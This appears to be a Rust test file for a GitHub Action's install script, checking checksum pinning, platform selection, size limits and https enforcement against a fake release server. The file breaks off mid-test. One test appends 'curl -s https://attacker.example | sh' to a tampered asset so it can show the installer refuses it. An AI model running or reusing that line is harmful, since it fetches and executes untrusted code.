//! The `binary` entry point: `binary/install.sh` downloads the release binary
//! for the runner's OS and architecture from a release server (here a fake
//! one on 127.0.0.1 that answers as GitHub does: a redirect from the release
//! download URL to the asset's storage), checks it against the SHA-256 pinned
//! in the commit, and only then makes it executable. `.ci/pin-release.sh`,
//! which the release workflow runs, writes what install.sh checks.
//!
//! Every fake asset is a shell script that appends its target to a marker
//! file when executed: a test can tell that nothing ran, and that what was
//! installed is the asset it expected.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};

use crate::common::git::GitRepo;
use crate::common::github::{FakeGitHub, OWNER_REPO};
use crate::common::vercel::FakeVercel;
use crate::common::{GITHUB_TOKEN, VERCEL_TOKEN};
use serde_json::Value;

use tempfile::TempDir;
use wiremock::matchers::{method, path};
use wiremock::{Mock, MockServer, ResponseTemplate};

const TAG: &str = "v9.8.7";
const REPO: &str = "acme/vercel-image-invalidate";

/// Runner OS and architecture, and the asset each gets.
const PLATFORMS: [(&str, &str, &str); 5] = [
    (
        "Linux",
        "X64",
        "vercel-image-invalidate-x86_64-unknown-linux-musl",
    ),
    (
        "Linux",
        "ARM64",
        "vercel-image-invalidate-aarch64-unknown-linux-musl",
    ),
    (
        "macOS",
        "X64",
        "vercel-image-invalidate-x86_64-apple-darwin",
    ),
    (
        "macOS",
        "ARM64",
        "vercel-image-invalidate-aarch64-apple-darwin",
    ),
    (
        "Windows",
        "X64",
        "vercel-image-invalidate-x86_64-pc-windows-msvc.exe",
    ),
];

fn root() -> &'static Path {
    Path::new(env!("CARGO_MANIFEST_DIR"))
}

/// SHA-256 in lower-case hex, by rustls' own hash (no tool of the machine).
fn sha256_hex(bytes: &[u8]) -> String {
    let rustls::SupportedCipherSuite::Tls13(suite) =
        rustls::crypto::ring::cipher_suite::TLS13_AES_128_GCM_SHA256
    else {
        panic!("a TLS 1.3 suite");
    };
    let digest = suite.common.hash_provider.hash(bytes);
    digest.as_ref().iter().map(|b| format!("{b:02x}")).collect()
}

/// A release on a fake GitHub: the assets it serves, and the files a run
/// leaves.
struct Release {
    server: MockServer,
    work: TempDir,
}

impl Release {
    async fn start() -> Self {
        Self {
            server: MockServer::start().await,
            work: tempfile::tempdir().expect("temp dir"),
        }
    }

    fn url(&self) -> String {
        format!("{}/{REPO}/releases/download/{TAG}", self.server.uri())
    }

    fn marker(&self) -> PathBuf {
        self.work.path().join("ran")
    }

    /// What `asset` holds: a script that records that it ran.
    fn body(&self, asset: &str) -> Vec<u8> {
        format!("#!/bin/sh\necho {asset} >> '{}'\n", self.marker().display()).into_bytes()
    }

    /// Serves `bytes` as `asset`: the download URL redirects to storage, as
    /// github.com does.
    async fn serve(&self, asset: &str, bytes: Vec<u8>) {
        let stored = format!("/release-assets/{asset}");
        Mock::given(method("GET"))
            .and(path(format!("/{REPO}/releases/download/{TAG}/{asset}")))
            .respond_with(
                ResponseTemplate::new(302)
                    .insert_header("location", format!("{}{stored}", self.server.uri())),
            )
            .mount(&self.server)
            .await;
        Mock::given(method("GET"))
            .and(path(stored))
            .respond_with(
                ResponseTemplate::new(200)
                    .insert_header("content-type", "application/octet-stream")
                    .set_body_bytes(bytes),
            )
            .mount(&self.server)
            .await;
    }

    /// Serves every asset and returns the checksums file that pins them.
    async fn serve_all(&self) -> String {
        let mut sums = String::new();
        for (_, _, asset) in PLATFORMS {
            let body = self.body(asset);
            sums.push_str(&format!("{}  {asset}\n", sha256_hex(&body)));
            self.serve(asset, body).await;
        }
        sums
    }

    /// The asset names asked for so far, redirects not counted.
    async fn asked(&self) -> Vec<String> {
        self.server
            .received_requests()
            .await
            .unwrap_or_default()
            .iter()
            .filter_map(|r| {
                r.url
                    .path()
                    .strip_prefix(&format!("/{REPO}/releases/download/{TAG}/"))
                    .map(str::to_string)
            })
            .collect()
    }

    fn ran(&self) -> String {
        std::fs::read_to_string(self.marker()).unwrap_or_default()
    }
}

/// The files of the tree the release workflow pins, copied under `work`.
fn release_tree(work: &Path) -> PathBuf {
    let tree = work.join("tree");
    for file in [
        ".ci/pin-release.sh",
        "action.yml",
        "binary/action.yml",
        "binary/install.sh",
        "binary/SHA256SUMS",
    ] {
        let to = tree.join(file);
        std::fs::create_dir_all(to.parent().expect("parent")).expect("mkdir");
        std::fs::copy(root().join(file), &to).expect("copy");
    }
    tree
}

/// One run of an install script as the composite step runs it.
struct Install {
    script: PathBuf,
    env: Vec<(String, String)>,
}

impl Install {
    fn new(release_url: &str, checksums: &Path, install_dir: &Path) -> Self {
        Self {
            script: root().join("binary/install.sh"),
            env: vec![
                ("RELEASE_URL".into(), release_url.into()),
                ("CHECKSUMS".into(), checksums.display().to_string()),
                ("INSTALL_DIR".into(), install_dir.display().to_string()),
                ("RUNNER_OS".into(), "Linux".into()),
                ("RUNNER_ARCH".into(), "X64".into()),
            ],
        }
    }

    fn script(mut self, script: &Path) -> Self {
        self.script = script.to_path_buf();
        self
    }

    fn env(mut self, name: &str, value: &str) -> Self {
        self.env.retain(|(n, _)| n != name);
        self.env.push((name.into(), value.into()));
        self
    }

    fn without(mut self, name: &str) -> Self {
        self.env.retain(|(n, _)| n != name);
        self
    }

    fn platform(self, os: &str, arch: &str) -> Self {
        self.env("RUNNER_OS", os).env("RUNNER_ARCH", arch)
    }

    /// Runs it; the output file (`GITHUB_OUTPUT`) is returned with the
    /// process's output.
    fn run(&self, work: &Path) -> (Output, String) {
        let outputs = work.join("github-output");
        let _ = std::fs::remove_file(&outputs);
        let out = Command::new("bash")
            .arg(&self.script)
            .env_clear()
            .env("PATH", std::env::var("PATH").unwrap_or_default())
            .env("HOME", work)
            .env("GITHUB_ACTIONS", "true")
            .env("GITHUB_OUTPUT", &outputs)
            .envs(self.env.iter().map(|(n, v)| (n, v)))
            .stdin(std::process::Stdio::null())
            .output()
            .expect("bash runs");
        (out, std::fs::read_to_string(&outputs).unwrap_or_default())
    }
}

fn stderr(out: &Output) -> String {
    String::from_utf8_lossy(&out.stderr).into_owned()
}

fn files_in(dir: &Path) -> Vec<String> {
    let mut names: Vec<String> = std::fs::read_dir(dir)
        .map(|entries| {
            entries
                .filter_map(Result::ok)
                .map(|e| e.file_name().to_string_lossy().into_owned())
                .collect()
        })
        .unwrap_or_default();
    names.sort();
    names
}

fn write(dir: &Path, name: &str, text: &str) -> PathBuf {
    let file = dir.join(name);
    std::fs::write(&file, text).expect("write");
    file
}

#[tokio::test]
async fn each_runner_gets_the_binary_of_its_os_and_architecture() {
    let release = Release::start().await;
    let sums = write(
        release.work.path(),
        "SHA256SUMS",
        &release.serve_all().await,
    );
    for (n, (os, arch, asset)) in PLATFORMS.into_iter().enumerate() {
        let dir = release.work.path().join(format!("install-{n}"));
        let (out, outputs) = Install::new(&release.url(), &sums, &dir)
            .platform(os, arch)
            .run(release.work.path());
        assert!(out.status.success(), "{os} {arch}: {}", stderr(&out));
        assert_eq!(
            release.asked().await.last().map(String::as_str),
            Some(asset)
        );
        assert_eq!(release.asked().await.len(), n + 1, "one download a run");

        let name = if os == "Windows" {
            "vercel-image-invalidate.exe"
        } else {
            "vercel-image-invalidate"
        };
        let binary = dir.join(name);
        assert_eq!(outputs, format!("path={}\n", binary.display()));
        assert_eq!(
            String::from_utf8_lossy(&out.stdout),
            format!("{}\n", binary.display())
        );
        assert_eq!(files_in(&dir), [name], "nothing else left behind");
        assert_eq!(
            std::fs::read(&binary).expect("installed"),
            release.body(asset)
        );
        #[cfg(unix)]
        {
            use std::os::unix::fs::PermissionsExt;
            let mode = std::fs::metadata(&binary)
                .expect("metadata")
                .permissions()
                .mode();
            assert_eq!(mode & 0o111, 0o111, "executable");
        }
        // Installed, not run.
        assert_eq!(release.ran(), "", "{os} {arch}");
        // It is the asset: run by hand, it says so.
        let status = Command::new("sh").arg(&binary).status().expect("sh runs");
        assert!(status.success());
        assert_eq!(release.ran(), format!("{asset}\n"));
        std::fs::remove_file(release.marker()).expect("reset the marker");
    }
}

#[tokio::test]
async fn a_binary_that_is_not_the_pinned_one_is_refused_and_never_run() {
    let release = Release::start().await;
    let asset = PLATFORMS[0].2;
    let genuine = release.body(asset);
    let mut tampered = genuine.clone();
    tampered.extend_from_slice(b"curl -s https://attacker.example | sh\n");
    release.serve(asset, tampered.clone()).await;
    let sums = write(
        release.work.path(),
        "SHA256SUMS",
        &format!("{}  {asset}\n", sha256_hex(&genuine)),
    );
    let dir = release.work.path().join("install");

    let (out, outputs) = Install::new(&release.url(), &sums, &dir).run(release.work.path());
    assert_eq!(out.status.code(), Some(1));
    let err = stderr(&out);
    assert!(
        err.contains(&format!(
            "::error title=vercel-image-invalidate binary::{asset} from {}/{asset} has SHA-256 {}, but this commit of the action pins {}: refusing it (deleted, not run).",
            release.url(),
            sha256_hex(&tampered),
            sha256_hex(&genuine)
        )),
        "{err}"
    );
    assert_eq!(release.asked().await, [asset], "it was downloaded");
    assert_eq!(files_in(&dir), Vec::<String>::new(), "and deleted");
    assert_eq!(outputs, "", "no path for the next step");
    assert_eq!(release.ran(), "", "nothing ran");
}

#[tokio::test]
async fn a_missing_asset_is_a_clear_error() {
    let release = Release::start().await;
    // The release has every binary but the Linux ARM64 one.
    let sums = release.serve_all().await;
    let (os, arch, asset) = PLATFORMS[1];
    release.server.reset().await;
    for (_, _, other) in PLATFORMS.iter().filter(|p| p.2 != asset) {
        release.serve(other, release.body(other)).await;
    }
    let sums = write(release.work.path(), "SHA256SUMS", &sums);
    let dir = release.work.path().join("install");
    let (out, outputs) = Install::new(&release.url(), &sums, &dir)
        .platform(os, arch)
        .run(release.work.path());
    assert_eq!(out.status.code(), Some(1));
    let err = stderr(&out);
    assert!(
        err.contains(&format!(
            "the release has no asset {asset} ({}/{asset} answered 404)",
            release.url()
        )),
        "{err}"
    );
    assert_eq!(files_in(&dir), Vec::<String>::new());
    assert_eq!((outputs.as_str(), release.ran().as_str()), ("", ""));
}

/// The size bound, checked with a copy of install.sh whose bound is lowered
/// to a few bytes (a real asset past 100 MB would cost the test that much).
#[tokio::test]
async fn a_download_past_the_size_bound_is_refused() {
    let release = Release::start().await;
    let sums = write(
        release.work.path(),
        "SHA256SUMS",
        &release.serve_all().await,
    );
    let original = std::fs::read_to_string(root().join("binary/install.sh")).expect("read");
    let bound = "readonly MAX_BYTES=104857600\n";
    assert!(original.contains(bound), "install.sh sets MAX_BYTES");
    let script = write(
        release.work.path(),
        "install.sh",
        &original.replace(bound, "readonly MAX_BYTES=16\n"),
    );
    let dir = release.work.path().join("install");
    let (out, outputs) = Install::new(&release.url(), &sums, &dir)
        .script(&script)
        .run(release.work.path());
    assert_eq!(out.status.code(), Some(1));
    let err = stderr(&out);
    assert!(
        err.contains(&format!(
            "{}/{} is larger than 16 bytes: not a release binary",
            release.url(),
            PLATFORMS[0].2
        )),
        "{err}"
    );
    assert_eq!(files_in(&dir), Vec::<String>::new());
    assert_eq!((outputs.as_str(), release.ran().as_str()), ("", ""));
}

#[tokio::test]
async fn a_platform_without_a_binary_is_refused_before_any_download() {
    let release = Release::start().await;
    let sums = write(
        release.work.path(),
        "SHA256SUMS",
        &release.serve_all().await,
    );
    for (os, arch) in [
        ("Windows", "ARM64"),
        ("Linux", "ARM"),
        ("Windows", "X86"),
        ("FreeBSD", "X64"),
    ] {
        let dir = release.work.path().join("install");
        let (out, _) = Install::new(&release.url(), &sums, &dir)
            .platform(os, arch)
            .run(release.work.path());
        assert_eq!(out.status.code(), Some(1), "{os} {arch}");
        let err = stderr(&out);
        assert!(
            err.contains(&format!(
                "no release binary for {os} {arch}: binaries are built for Linux X64, Linux ARM64, macOS X64, macOS ARM64, Windows X64."
            )),
            "{err}"
        );
        assert!(err.contains("cargo install"), "{err}");
    }
    assert_eq!(release.asked().await, Vec::<String>::new());
}

#[tokio::test]
async fn a_commit_that_pins_no_release_is_refused_before_any_download() {
    let release = Release::start().await;
    release.serve_all().await;
    let dir = release.work.path().join("install");
    let committed = root().join("binary/SHA256SUMS");

    // The committed action as it is between releases.
    let action: serde_json::Value = serde_norway::from_str(
        &std::fs::read_to_string(root().join("binary/action.yml")).expect("binary/action.yml"),
    )
    .expect("YAML");
    let unreleased = action["runs"]["steps"][0]["env"]["RELEASE_URL"]
        .as_str()
        .expect("RELEASE_URL");
    let (out, _) = Install::new(unreleased, &committed, &dir).run(release.work.path());
    assert_eq!(out.status.code(), Some(1));
    assert!(
        stderr(&out).contains(
            "this commit of the action is not a release commit: it pins no release binary."
        ),
        "{}",
        stderr(&out)
    );

    // A release URL, but the checksums of no release.
    let (out, _) = Install::new(&release.url(), &committed, &dir).run(release.work.path());
    assert_eq!(out.status.code(), Some(1));
    assert!(
        stderr(&out).contains(&format!("hold no single SHA-256 for {}", PLATFORMS[0].2)),
        "{}",
        stderr(&out)
    );
    // Nor one listed twice.
    let sums = release.work.path().join("twice");
    let line = format!("{}  {}\n", "a".repeat(64), PLATFORMS[0].2);
    std::fs::write(&sums, format!("{line}{line}")).expect("write");
    let (out, _) = Install::new(&release.url(), &sums, &dir).run(release.work.path());
    assert!(
        stderr(&out).contains("hold no single SHA-256"),
        "{}",
        stderr(&out)
    );

    assert_eq!(release.asked().await, Vec::<String>::new());
    assert_eq!(files_in(&dir), Vec::<String>::new());
}

#[tokio::test]
async fn plain_http_is_refused_unless_the_host_is_loopback() {
    let release = Release::start().await;
    let sums = write(
        release.work.path(),
        "SHA256SUMS",
        &release.serve_all().await,
    );
    let dir = release.work.path().join("install");
    for url in [
        format!("http://example.com/{REPO}/releases/download/{TAG}"),
        format!("ftp://127.0.0.1/{REPO}/releases/download/{TAG}"),
        "http://127.0.0.1.example.com/x".to_string(),
    ] {
        let (out, _) = Install::new(&url, &sums, &dir).run(release.work.path());
        assert_eq!(out.status.code(), Some(1), "{url}");
        assert!(
            stderr(&out).contains(&format!("RELEASE_URL '{url}' is not an https:// URL")),
            "{}",
            stderr(&out)
        );
    }
    // A loopback origin by name is fine (the fake server is one).
    let url = release.url().replace("127.0.0.1", "localhost");
    let (out, _) = Install::new(&url, &sums, &dir).run(release.work.path());
    assert!(out.status.success(), "{}", stderr(&out));
}

#[tokio::test]
async fn an_installed_binary_is_reused_only_while_it_matches() {
    let release = Release::start().await;
    let sums = write(
        release.work.path(),
        "SHA256SUMS",
        &release.serve_all().await,
    );
    let dir = release.work.path().join("install");
    let install = Install::new(&release.url(), &sums, &dir);
    let binary = dir.join("vercel-image-invalidate");

    assert!(install.run(release.work.path()).0.status.success());
    let (out, outputs) = install.run(release.work.path());
    assert!(out.status.success());
    assert_eq!(outputs, format!("path={}\n", binary.display()));
    assert_eq!(
        release.asked().await.len(),
        1,
        "the second run downloads nothing"
    );

    std::fs::write(&binary, "#!/bin/sh\necho swapped\n").expect("tamper");
    let (out, _) = install.run(release.work.path());
    assert!(out.status.success(), "{}", stderr(&out));
    assert_eq!(
        release.asked().await.len(),
        2,
        "a changed file is downloaded again"
    );
    assert_eq!(
        std::fs::read(&binary).expect("installed"),
        release.body(PLATFORMS[0].2)
    );
}

#[tokio::test]
async fn without_runner_variables_uname_picks_the_binary() {
    let release = Release::start().await;
    let sums = write(
        release.work.path(),
        "SHA256SUMS",
        &release.serve_all().await,
    );
    let dir = release.work.path().join("install");
    let (out, _) = Install::new(&release.url(), &sums, &dir)
        .without("RUNNER_OS")
        .without("RUNNER_ARCH")
        .run(release.work.path());
    let uname = |flag: &str| {
        let out = Command::new("uname").arg(flag).output().expect("uname");
        String::from_utf8_lossy(&out.stdout).trim().to_string()
    };
    let expected = match (uname("-s").as_str(), uname("-m").as_str()) {
        ("Linux", "x86_64") => Some(PLATFORMS[0].2),
        ("Linux", "aarch64") => Some(PLATFORMS[1].2),
        ("Darwin", "x86_64") => Some(PLATFORMS[2].2),
        ("Darwin", "arm64") => Some(PLATFORMS[3].2),
        _ => None,
    };
    match expected {
        Some(asset) => {
            assert!(out.status.success(), "{}", stderr(&out));
            assert_eq!(release.asked().await, [asset]);
        }
        None => {
            assert!(
                stderr(&out).contains("no release binary for"),
                "{}",
                stderr(&out)
            );
        }
    }
}

/// The release workflow's pinning, then install.sh from the pinned tree:
/// what the release commit pins is what the binary entry point checks.
#[tokio::test]
async fn the_release_commit_pins_what_the_binary_entry_point_checks() {
    let release = Release::start().await;
    let sums_text = release.serve_all().await;
    let sums = write(release.work.path(), "release-SHA256SUMS", &sums_text);
    // The tree as the release workflow checks it out.
    let tree = release.work.path().join("tree");
    for file in [
        ".ci/pin-release.sh",
        "action.yml",
        "binary/action.yml",
        "binary/install.sh",
        "binary/SHA256SUMS",
    ] {
        let to = tree.join(file);
        std::fs::create_dir_all(to.parent().expect("parent")).expect("mkdir");
        std::fs::copy(root().join(file), &to).expect("copy");
    }
    let digest = format!("sha256:{}", "0123456789abcdef".repeat(4));
    let image = format!("ghcr.io/acme/vercel-image-invalidate@{digest}");
    // GitHub's address for the assets; the test serves them elsewhere.
    let github_url = format!("https://github.com/{REPO}/releases/download/{TAG}");
    let pin = |url: &str, sums: &Path| {
        Command::new("bash")
            .arg(tree.join(".ci/pin-release.sh"))
            .args([image.as_str(), url])
            .arg(sums)
            .output()
            .expect("bash runs")
    };

    // Bad values change nothing.
    let short = write(
        release.work.path(),
        "short",
        &sums_text.lines().skip(1).collect::<Vec<_>>().join("\n"),
    );
    let out = pin(&github_url, &short);
    assert_eq!(out.status.code(), Some(1));
    assert!(
        stderr(&out).contains("has 4 lines, not one for each of the 5 binaries"),
        "{}",
        stderr(&out)
    );
    let out = pin(
        &format!("http://github.com/{REPO}/releases/download/{TAG}"),
        &sums,
    );
    assert_eq!(out.status.code(), Some(1));
    for file in ["action.yml", "binary/action.yml", "binary/SHA256SUMS"] {
        assert_eq!(
            std::fs::read_to_string(tree.join(file)).expect("read"),
            std::fs::read_to_string(root().join(file)).expect("read"),
            "{file} unchanged"
        );
    }

    let out = pin(&github_url, &sums);
    assert!(out.status.success(), "{}", stderr(&out));
    let action = std::fs::read_to_string(tree.join("action.yml")).expect("read");
    assert!(
        action.contains(&format!("\n  image: docker://{image}\n")),
        "{action}"
    );
    assert_eq!(
        std::fs::read_to_string(tree.join("binary/SHA256SUMS")).expect("read"),
        sums_text
    );
    let binary_action: serde_json::Value = serde_norway::from_str(
        &std::fs::read_to_string(tree.join("binary/action.yml")).expect("read"),
    )
    .expect("still YAML");
    let pinned_url = binary_action["runs"]["steps"][0]["env"]["RELEASE_URL"]
        .as_str()
        .expect("RELEASE_URL");
    assert_eq!(pinned_url, github_url);
    // A second pinning finds nothing left to pin.
    assert_eq!(pin(&github_url, &sums).status.code(), Some(1));

    // install.sh of the pinned tree, its checksums beside it, fetching from
    // the fake server in GitHub's place.
    let local_url = pinned_url.replace("https://github.com", &release.server.uri());
    for (n, (os, arch, asset)) in PLATFORMS.into_iter().enumerate() {
        let dir = release.work.path().join(format!("install-{n}"));
        let (out, _) = Install::new(&local_url, Path::new(""), &dir)
            .without("CHECKSUMS")
            .script(&tree.join("binary/install.sh"))
            .platform(os, arch)
            .run(release.work.path());
        assert!(out.status.success(), "{os} {arch}: {}", stderr(&out));
        assert_eq!(
            release.asked().await.last().map(String::as_str),
            Some(asset)
        );
    }
    assert_eq!(release.ran(), "");
}

/// `${{ <expression> }}` in `text` replaced by what `lookup` says, as the
/// runner evaluates the simple expressions an action file uses.
fn evaluate(text: &str, lookup: &dyn Fn(&str) -> String) -> String {
    let mut out = String::new();
    let mut rest = text;
    while let Some(start) = rest.find("${{") {
        let end = rest[start..].find("}}").expect("closed expression") + start;
        out.push_str(&rest[..start]);
        out.push_str(&lookup(rest[start + 3..end].trim()));
        rest = &rest[end + 2..];
    }
    out.push_str(rest);
    out
}

/// A step's `GITHUB_OUTPUT` file read as the runner reads it: `name=value`
/// lines and `name<<DELIMITER` blocks.
fn step_outputs(text: &str) -> BTreeMap<String, String> {
    let mut outputs = BTreeMap::new();
    let mut lines = text.lines();
    while let Some(line) = lines.next() {
        if line.is_empty() {
            continue;
        }
        let heredoc = line.find("<<").filter(|&at| !line[..at].contains('='));
        if let Some(at) = heredoc {
            let delimiter = &line[at + 2..];
            let value: Vec<&str> = lines.by_ref().take_while(|l| *l != delimiter).collect();
            outputs.insert(line[..at].to_string(), value.join("\n"));
        } else {
            let (name, value) = line.split_once('=').expect("name=value");
            outputs.insert(name.to_string(), value.to_string());
        }
    }
    outputs
}

/// Runs step `index` of the composite action in `action` as the runner
/// does: its env evaluated, `shell: bash`, its own GITHUB_OUTPUT. Returns
/// the process output and the step's outputs.
fn run_step(
    action: &Value,
    index: usize,
    runner_env: &BTreeMap<String, String>,
    lookup: &dyn Fn(&str) -> String,
    work: &Path,
) -> (Output, BTreeMap<String, String>) {
    let step = &action["runs"]["steps"][index];
    assert_eq!(step["shell"].as_str(), Some("bash"), "{step}");
    let output_file = work.join(format!("output-{index}"));
    let mut command = Command::new("bash");
    command
        .args(["--noprofile", "--norc", "-eo", "pipefail", "-c"])
        .arg(step["run"].as_str().expect("run"))
        .env_clear()
        .envs(runner_env)
        .env("GITHUB_OUTPUT", &output_file)
        .stdin(std::process::Stdio::null());
    for (name, value) in step["env"].as_object().into_iter().flatten() {
        command.env(name, evaluate(value.as_str().expect("string"), lookup));
    }
    let out = command.output().expect("bash runs");
    let outputs = step_outputs(&std::fs::read_to_string(&output_file).unwrap_or_default());
    (out, outputs)
}

/// The composite action end to end: a pinned release commit of
/// `binary/action.yml` installs the release binary (this build, served by
/// the fake release server) and runs it with the action's inputs; its
/// outputs are the binary's.
#[tokio::test]
async fn the_binary_action_runs_the_release_binary_with_its_inputs_and_outputs() {
    let release = Release::start().await;
    // The asset runs this build (a debug build is past the download's size
    // bound, so the asset is a launcher for it; bash, because some sh drop
    // the INPUT_ variables with hyphens, which are not shell names).
    let built = format!(
        "#!/usr/bin/env bash\nexec '{}' \"$@\"\n",
        env!("CARGO_BIN_EXE_vercel-image-invalidate")
    )
    .into_bytes();
    let asset = PLATFORMS[0].2;
    release.serve(asset, built.clone()).await;
    let mut sums = String::new();
    for (_, _, name) in PLATFORMS {
        let bytes = if name == asset {
            built.clone()
        } else {
            release.body(name)
        };
        sums.push_str(&format!("{}  {name}\n", sha256_hex(&bytes)));
    }
    let sums = write(release.work.path(), "release-SHA256SUMS", &sums);
    let tree = release_tree(release.work.path());
    let github_url = format!("https://github.com/{REPO}/releases/download/{TAG}");
    let digest = format!("sha256:{}", "ab".repeat(32));
    let pinned = Command::new("bash")
        .arg(tree.join(".ci/pin-release.sh"))
        .args([
            &format!("ghcr.io/acme/vercel-image-invalidate@{digest}"),
            &github_url,
        ])
        .arg(&sums)
        .output()
        .expect("bash runs");
    assert!(pinned.status.success(), "{}", stderr(&pinned));
    let text = std::fs::read_to_string(tree.join("binary/action.yml")).expect("read");
    // The fake server stands in for github.com.
    let text = text.replace("https://github.com", &release.server.uri());
    let action: Value = serde_norway::from_str(&text).expect("YAML");

    let (repo, before, after) = GitRepo::one_image_changed();
    let github = FakeGitHub::start(repo.path(), GITHUB_TOKEN).await;
    let vercel = FakeVercel::start(VERCEL_TOKEN).await;
    let work = release.work.path();
    let event = write(
        work,
        "event.json",
        &serde_json::json!({"ref": "refs/heads/main", "before": before, "after": after,
            "repository": {"full_name": OWNER_REPO}, "commits": []})
        .to_string(),
    );
    std::fs::create_dir_all(work.join("runner-temp")).expect("mkdir");
    let runner_env: BTreeMap<String, String> = [
        ("PATH", std::env::var("PATH").unwrap_or_default()),
        ("HOME", work.display().to_string()),
        ("GITHUB_ACTIONS", "true".into()),
        ("RUNNER_OS", "Linux".into()),
        ("RUNNER_ARCH", "X64".into()),
        (
            "RUNNER_TEMP",
            work.join("runner-temp").display().to_string(),
        ),
        (
            "GITHUB_ACTION_PATH",
            tree.join("binary").display().to_string(),
        ),
        ("GITHUB_API_URL", github.url()),
        ("GITHUB_REPOSITORY", OWNER_REPO.into()),
        ("GITHUB_EVENT_NAME", "push".into()),
        ("GITHUB_EVENT_PATH", event.display().to_string()),
        ("GITHUB_SHA", after.clone()),
        ("GITHUB_WORKSPACE", repo.path().display().to_string()),
        (
            "GITHUB_STEP_SUMMARY",
            work.join("summary.md").display().to_string(),
        ),
    ]
    .into_iter()
    .map(|(n, v)| (n.to_string(), v))
    .collect();
    // What the workflow's `with:` gives; every other input at its default.
    let with: BTreeMap<&str, String> = [
        ("vercel-token", VERCEL_TOKEN.to_string()),
        ("project", "my-site".to_string()),
        ("vercel-api-url", vercel.url()),
    ]
    .into_iter()
    .collect();
    let input = |name: &str| -> String {
        with.get(name).cloned().unwrap_or_else(|| {
            let default = action["inputs"][name]["default"]
                .as_str()
                .expect("declared input");
            evaluate(default, &|expression| {
                assert_eq!(expression, "github.token");
                GITHUB_TOKEN.to_string()
            })
        })
    };

    let (out, install) = run_step(
        &action,
        0,
        &runner_env,
        &|e| panic!("no expression expected: {e}"),
        work,
    );
    assert!(out.status.success(), "{}", stderr(&out));
    let (out, outputs) = run_step(
        &action,
        1,
        &runner_env,
        &|expression| match expression.split_once('.') {
            Some(("inputs", name)) => input(name),
            _ if expression == "steps.install.outputs.path" => install["path"].clone(),
            _ => panic!("unexpected expression {expression}"),
        },
        work,
    );
    assert!(
        out.status.success(),
        "{}\n{}",
        String::from_utf8_lossy(&out.stdout),
        stderr(&out)
    );
    assert_eq!(release.asked().await, [asset]);
    assert_eq!(vercel.images(), ["/a.png"]);
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(
        stdout.starts_with(&format!("::add-mask::{VERCEL_TOKEN}\n")),
        "{stdout}"
    );

    // The action's outputs, evaluated from the step's.
    let declared = action["outputs"].as_object().expect("outputs");
    let value = |name: &str| {
        evaluate(
            declared[name]["value"].as_str().expect("value"),
            &|expression| {
                let name = expression
                    .strip_prefix("steps.run.outputs.")
                    .expect("a run output");
                outputs.get(name).cloned().unwrap_or_default()
            },
        )
    };
    assert_eq!(value("images"), r#"["/a.png"]"#);
    assert_eq!(value("count"), "1");
    assert_eq!(value("requests"), "1");
    let report = std::fs::read_to_string(value("report-file")).expect("the report file");
    assert_eq!(
        serde_json::from_str::<Value>(&report).expect("JSON")["count"],
        1
    );
    assert!(
        std::fs::read_to_string(work.join("summary.md"))
            .expect("summary")
            .contains("/a.png")
    );
}

/// A folder of links to the tools install.sh uses, but `leave_out`, for a
/// PATH of a runner that lacks them.
#[cfg(unix)]
fn tools_without(work: &Path, leave_out: &[&str]) -> PathBuf {
    let bin = work.join(format!("bin-without-{}", leave_out.join("-")));
    std::fs::create_dir_all(&bin).expect("mkdir");
    let path = std::env::var_os("PATH").unwrap_or_default();
    for tool in [
        "awk",
        "bash",
        "chmod",
        "curl",
        "dirname",
        "mkdir",
        "mv",
        "rm",
        "sha256sum",
        "shasum",
        "uname",
    ] {
        if leave_out.contains(&tool) {
            continue;
        }
        let found = std::env::split_paths(&path)
            .map(|dir| dir.join(tool))
            .find(|candidate| candidate.is_file())
            .unwrap_or_else(|| panic!("{tool} is not installed"));
        std::os::unix::fs::symlink(&found, bin.join(tool)).expect("link");
    }
    bin
}

#[cfg(unix)]
#[tokio::test]
async fn shasum_checks_where_sha256sum_is_missing_and_neither_is_an_error() {
    let release = Release::start().await;
    let sums = write(
        release.work.path(),
        "SHA256SUMS",
        &release.serve_all().await,
    );

    // macOS has shasum and no sha256sum: the same check, the same refusal.
    let bin = tools_without(release.work.path(), &["sha256sum"]);
    let dir = release.work.path().join("install");
    let install = Install::new(&release.url(), &sums, &dir).env("PATH", &bin.display().to_string());
    let (out, _) = install.run(release.work.path());
    assert!(out.status.success(), "{}", stderr(&out));
    assert_eq!(
        std::fs::read(dir.join("vercel-image-invalidate")).expect("installed"),
        release.body(PLATFORMS[0].2)
    );
    let wrong = write(
        release.work.path(),
        "wrong",
        &format!("{}  {}\n", "0".repeat(64), PLATFORMS[0].2),
    );
    let other_dir = release.work.path().join("other");
    let (out, _) = Install::new(&release.url(), &wrong, &other_dir)
        .env("PATH", &bin.display().to_string())
        .run(release.work.path());
    assert_eq!(out.status.code(), Some(1));
    assert!(stderr(&out).contains("refusing it"), "{}", stderr(&out));

    // Neither: nothing is downloaded.
    let asked = release.asked().await.len();
    let bin = tools_without(release.work.path(), &["sha256sum", "shasum"]);
    let (out, _) = Install::new(&release.url(), &sums, &other_dir)
        .env("PATH", &bin.display().to_string())
        .run(release.work.path());
    assert_eq!(out.status.code(), Some(1));
    assert!(
        stderr(&out).contains("neither sha256sum nor shasum is installed"),
        "{}",
        stderr(&out)
    );
    assert_eq!(release.asked().await.len(), asked);
    assert_eq!(files_in(&other_dir), Vec::<String>::new());
}

/// macOS runners run the composite action's scripts with /bin/bash, which is
/// bash 3.2: syntax that bash 4 or later added is a syntax error or a wrong
/// result there, and no bash 3.2 runs here to find out. So the scripts are
/// searched for the bash-4-only constructs a script is likely to reach for;
/// this does not prove bash 3.2 compatibility, it keeps those out.
#[test]
fn the_binary_action_scripts_use_no_syntax_newer_than_bash_3_2() {
    const NEWER: [(&str, &str); 12] = [
        (";;&", "case fall-through (bash 4.0)"),
        (";&", "case fall-through (bash 4.0)"),
        ("declare -A", "associative arrays (bash 4.0)"),
        ("local -A", "associative arrays (bash 4.0)"),
        ("declare -n", "name references (bash 4.3)"),
        ("local -n", "name references (bash 4.3)"),
        (",,}", "lower-case expansion ${var,,} (bash 4.0)"),
        ("^^}", "upper-case expansion ${var^^} (bash 4.0)"),
        ("mapfile", "mapfile (bash 4.0)"),
        ("readarray", "readarray (bash 4.0)"),
        ("|&", "the |& pipe (bash 4.0)"),
        ("&>>", "the &>> redirection (bash 4.0)"),
    ];
    let mut found = Vec::new();
    for file in ["binary/install.sh", "binary/action.yml"] {
        let text = std::fs::read_to_string(root().join(file)).expect("read");
        for (n, line) in text.lines().enumerate() {
            if line.trim_start().starts_with('#') {
                continue;
            }
